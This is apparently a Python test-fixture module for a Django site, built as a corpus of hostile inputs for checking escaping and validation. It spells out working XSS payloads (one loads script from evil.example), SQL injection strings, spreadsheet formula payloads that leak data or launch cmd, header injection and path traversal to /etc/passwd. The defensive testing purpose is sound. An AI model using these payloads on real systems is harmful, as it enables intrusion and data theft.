"""The hostile input corpus: what an attacker, a careless paste or a broken client might send to any field.

Each ``Payload`` has a name (the pytest id) and either:

* ``text``: what a person types or pastes. It is percent-encoded (as UTF-8, lone surrogates included) wherever
  it goes into a query string or a form body, so the server decodes exactly this text; or
* ``raw``: a fragment sent as it is, undecoded, so malformed percent-encoding and repeated parameters really
  reach Django. ``{name}`` in it stands for the parameter's name; without it the fragment is the value.

``markers`` are fragments that must never appear in an HTML page as they are: each starts with ``<`` or sits in
an attribute, so any correct escaping or sanitising changes it. ``active`` marks the payloads that try to run
script, for the checks that read a page as a browser would.

The script payloads set ``window.__pwned`` as well as opening a dialog, so the browser tests can look for either.
"""

import base64
from dataclasses import dataclass, field
from urllib.parse import parse_qsl, quote

MEGABYTE = 1024 * 1024
PWN = "window.__pwned=1;alert(1)"
SCRIPT = f"<script>{PWN}</script>"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
FORM = "application/x-www-form-urlencoded"  # what ``body`` builds


def _b64(text):
    return base64.b64encode(text.encode()).decode()


@dataclass(frozen=True)
class Payload:
    name: str
    text: str = ""
    raw: str = ""
    markers: tuple[str, ...] = ()
    active: bool = False
    tags: frozenset[str] = field(default_factory=frozenset)

    def fragment(self, name):
        """``name=value`` for a query string or a urlencoded body, encoded as described above."""
        if self.raw:
            return self.raw.format(name=name) if "{name}" in self.raw else f"{name}={self.raw}"
        return f"{name}={encode(self.text)}"

    @property
    def value(self):
        """The text a server reads for the parameter, decoded as Django does (bytes that are not UTF-8, such as
        a lone surrogate's, become U+FFFD); for a raw payload, the parameter's last value."""
        if not self.raw:
            return self.text.encode("utf-8", "surrogatepass").decode("utf-8", "replace")
        values = [value for name, value in parse_qsl(self.fragment("p"), keep_blank_values=True) if name == "p"]
        return values[-1] if values else ""

    @property
    def formula(self):
        return is_formula(self.value)


def encode(text):
    """Percent-encoded UTF-8, lone surrogates kept (they become U+FFFD when the server decodes them)."""
    return quote(text.encode("utf-8", "surrogatepass"), safe="")


def is_formula(cell):
    """Whether a spreadsheet would read this cell as a formula."""
    return isinstance(cell, str) and cell.startswith(FORMULA_STARTS)


def body(pairs):
    """A urlencoded query string or form body from (name, value) pairs; a value may be a ``Payload``."""
    return "&".join(
        value.fragment(name) if isinstance(value, Payload) else f"{name}={encode(str(value))}" for name, value in pairs
    )


def _p(name, text="", *, raw="", markers=(), active=False, tags=()):
    return Payload(name, text, raw, tuple(markers), active, frozenset(tags))


PAYLOADS = [
    # Markup that runs script, and Markdown that tries to
    _p("script-tag", SCRIPT, markers=["<script>window.__pwned"], active=True, tags=["worst"]),
    _p("script-src", "<script src=//evil.example/x.js></script>", markers=["<script src=//evil"], active=True),
    _p("img-onerror", f"<img src=x onerror={PWN}>", markers=["<img src=x onerror"], active=True, tags=["worst"]),
    _p("svg-onload", f"<svg onload={PWN}>", markers=["<svg onload"], active=True, tags=["worst"]),
    _p("svg-script", f"<svg><script>{PWN}</script></svg>", markers=["<svg><script>"], active=True),
    _p("iframe-javascript", f"<iframe src=javascript:{PWN}></iframe>", markers=["<iframe src=javascript"], active=True),
    _p("details-ontoggle", f"<details open ontoggle={PWN}>", markers=["<details open ontoggle"], active=True),
    _p("html-link-javascript", f'<a href="javascript:{PWN}">x</a>', markers=['<a href="javascript:'], active=True),
    _p(
        "markdown-link-javascript",
        f"[Read the report](javascript:{PWN})",
        markers=['href="javascript:', "href=javascript:"],
        active=True,
        tags=["worst"],
    ),
    _p("markdown-image-javascript", f"![chart](javascript:{PWN})", markers=['src="javascript:'], active=True),
    _p(
        "markdown-link-data-html",
        f"[Read the report](data:text/html;base64,{_b64(SCRIPT)})",
        markers=['href="data:'],
        active=True,
    ),
    _p(
        "markdown-image-data-svg",
        f"![chart](data:image/svg+xml;base64,{_b64(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{PWN}"/>')})",
        markers=['src="data:'],
        active=True,
    ),
    _p("attribute-breakout", f'"><script>{PWN}</script>', markers=['"><script>'], active=True, tags=["worst"]),
    _p("attribute-breakout-single", f"'><img src=x onerror={PWN}>", markers=["'><img src=x"], active=True),
    _p("attribute-injection", f'" autofocus onfocus="{PWN}" x="', active=True),
    _p("textarea-breakout", f"</textarea><script>{PWN}</script>", markers=["</textarea><script>"], active=True),
    _p("title-breakout", f"</title><script>{PWN}</script>", markers=["</title><script>"], active=True),
    _p("comment-breakout", f"--><script>{PWN}</script>", markers=["--><script>"], active=True),
    # Template syntax, which must stay text
    _p("django-template", "{{ request.META }}{% debug %}", markers=["wsgi.input", "HTTP_COOKIE"]),
    _p("template-arithmetic", "{{ 98765|add:11111 }}", markers=["109876"]),
    _p("javascript-template", "${7*191}{{constructor.constructor('" + PWN + "')()}}"),
    # Unicode tricks
    _p("right-to-left-override", "Kent\u202egnp.exe\u202c Police"),
    _p("zero-width-joiners", "K\u200de\u200bn\u200ct\ufeff Police\u2060"),
    _p("homoglyphs", "\u041a\u0435nt Police"),  # Cyrillic Ka and Ie
    _p("combining-characters", "Ke" + "\u0301\u0336\u0489" * 200 + "nt"),
    _p("lone-surrogate", "Kent\ud800 Police\udfff"),
    _p("full-width-script", "\uff1cscript\uff1e" + PWN + "\uff1c/script\uff1e", markers=[SCRIPT]),
    _p("astral-characters", "\U0001f46e\u200d\u2640\ufe0f \U0001f693 \U00010348"),
    _p("line-separators", "one\u2028two\u2029three\u0085four"),
    _p("noncharacters", "\ufffe\uffff\U0010ffff"),
    # SQL fragments
    _p("sql-or", "' OR 1=1 --"),
    _p("sql-drop-table", "'; DROP TABLE forces_force; --"),
    _p("sql-union", "1 UNION SELECT username, password FROM auth_user--"),
    _p("sql-wildcards", "%_%\\"),
    # Size
    _p("one-megabyte", "x" * MEGABYTE),
    # NUL bytes and other control characters
    _p("nul", "\x00"),
    _p("nul-inside", "Kent\x00Police"),
    _p("control-characters", "Kent\x01\x07\x08\x1b[31m\x7fPolice"),
    _p("vertical-tab", "first line\x0bsecond line"),  # what a word processor's manual line break pastes as
    _p("c1-controls", "Kent\x85\x9bPolice"),
    # Spreadsheet formulas
    _p("formula-equals", "=1+1"),
    _p("formula-hyperlink", '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'),
    _p("formula-dde", "=cmd|' /C calc'!A0"),
    _p("formula-plus", "+1+cmd|' /C calc'!A0"),
    _p("formula-minus", "-1+cmd|' /C calc'!A0"),
    _p("formula-at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    _p("formula-tab", "\t=1+1"),
    _p("formula-carriage-return", "\r=1+1"),
    # Header injection and path traversal
    _p("crlf-injection", "x\r\nSet-Cookie: pwned=1\r\nLocation: //evil.example/"),
    _p("crlf-injection-raw", raw="x%0d%0aSet-Cookie:%20pwned=1"),
    _p("path-traversal", "../../../../etc/passwd"),
    _p("path-traversal-encoded", raw="..%2f..%2f..%2fetc%2fpasswd"),
    _p("path-traversal-windows", "..\\..\\windows\\win.ini"),
    _p("path-nul-suffix", raw="..%2fsettings.py%00.csv"),
    # Malformed percent-encoding
    _p("lone-percent", raw="%"),
    _p("bad-hex", raw="%zz"),
    _p("overlong-utf8", raw="%c0%af"),
    _p("encoded-nul", raw="%00"),
    _p("not-utf8", raw="%ff%fe"),
    _p("truncated-utf8", raw="%e2%82"),
    _p("double-encoded", raw="%253Cscript%253E"),
    _p("iis-unicode", raw="%u003cscript%u003e"),
    # Numbers
    _p("overlong-number", "9" * 400),
    _p("int64-overflow", "99999999999999999999"),
    _p("negative", "-1"),
    _p("float-overflow", "1e309"),
    _p("not-a-number", "NaN"),
    # Emptiness and repetition
    _p("empty", ""),
    _p("whitespace", " \t \u00a0\u3000 "),
    _p("repeated", raw="{name}=1&{name}=2"),
    _p("repeated-empty", raw="{name}=&{name}="),
    _p("repeated-payload", raw="{name}=%3Cscript%3E&{name}=ok"),
    _p("no-equals-sign", raw="{name}"),
    _p("array-style", raw="{name}[]=1&{name}[0]=2"),
    _p("too-many-fields", raw="&".join(["{name}=1"] * 1001)),
]

# Text every script payload carries: a page holding none of it cannot have gained anything active from one.
TRACES = ("__pwned", "evil.example", "javascript:", "data:")
assert all(any(trace in payload.text for trace in TRACES) for payload in PAYLOADS if payload.active)

BY_NAME = {payload.name: payload for payload in PAYLOADS}
assert len(BY_NAME) == len(PAYLOADS), "two payloads share a name"

TEXT = [payload for payload in PAYLOADS if not payload.raw]
ACTIVE = [payload for payload in PAYLOADS if payload.active]
WORST = [payload for payload in PAYLOADS if "worst" in payload.tags]


def ids(payloads):
    return [payload.name for payload in payloads]
